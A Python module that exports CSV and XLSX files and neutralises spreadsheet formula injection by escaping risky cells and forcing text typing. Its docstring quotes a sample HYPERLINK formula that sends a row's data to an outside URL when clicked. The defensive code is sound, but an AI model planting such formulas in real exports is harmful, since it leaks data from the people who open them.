"""Every CSV and XLSX the system writes: tables that are safe to open in a spreadsheet.

A cell a person typed that begins with = + - @, a tab or a carriage return would be read
as a formula by Excel or WPS (CSV injection: `=HYPERLINK("http://…?x="&A2,"点此")` sends
the row away when clicked). Such text is written with a leading apostrophe, which the
spreadsheet shows as plain text; XLSX text cells are written as strings, never formulas,
and characters XLSX cannot hold (control characters) are dropped there instead of failing
the whole export.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: Any) -> Any:
    """A text cell neutralised if a spreadsheet would run it; numbers and dates unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM (so Excel reads the Chinese right), every cell made safe."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([safe_text(v) for v in header])
    for row in rows:
        writer.writerow([safe_text(v) for v in row])
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet, streamed (write-only), text cells typed as strings."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])

    def cells(values: Sequence[Any]) -> list[Any]:
        out = []
        for value in values:
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", safe_text(value)))
                cell.data_type = "s"  # text, even when it looks like a formula
                out.append(cell)
            else:
                out.append(value)
        return out

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
